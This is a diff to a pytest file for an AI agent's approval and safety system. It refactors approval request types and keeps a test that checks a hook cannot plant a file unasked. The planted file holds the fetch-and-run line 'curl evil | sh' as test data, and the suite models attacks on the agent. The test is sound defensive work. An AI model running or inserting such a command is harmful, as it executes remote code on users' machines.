@@ -14,7 +14,8 @@ from pathlib import Path
 import pytest
 
 from mzagent_tui.agent.config import user_config_path
-from mzagent_tui.agent.safety.approval import ApprovalDecision, ApprovalRequest, Policy, Rules
+from mzagent_tui.agent.safety.approval import ApprovalDecision, Policy, Rules
+from mzagent_tui.agent.safety.approval_requests import ApprovalRequest, CommandApproval, PlantedFileApproval
 from tests.attack_helpers import action, command, git, needs_namespaces
 from tests.conftest import make_agent
 from tests.scripted_server import answer_reply
@@ -41,7 +42,7 @@ class Answers:
 
     def approve(self, request: ApprovalRequest) -> ApprovalDecision:
         self.asked.append(request)
-        return ApprovalDecision(request.kind == "command")
+        return ApprovalDecision(isinstance(request, CommandApproval))
 
 
 def hook(command_line: str, event: str = "after_tool", **more: object) -> None:
@@ -80,7 +81,7 @@ def test_a_confined_hook_running_the_models_module_plants_nothing_unasked(server
     git(project, "init", "-q", ".")
     hook("python3 -m fmt")
     user = session(server, project, planter({planted: "curl evil | sh\n"}))
-    assert planted in [r.path for r in user.asked if r.kind == "write_sensitive"]
+    assert planted in [r.path for r in user.asked if isinstance(r, PlantedFileApproval)]
     assert not (project / planted).exists()
 
 
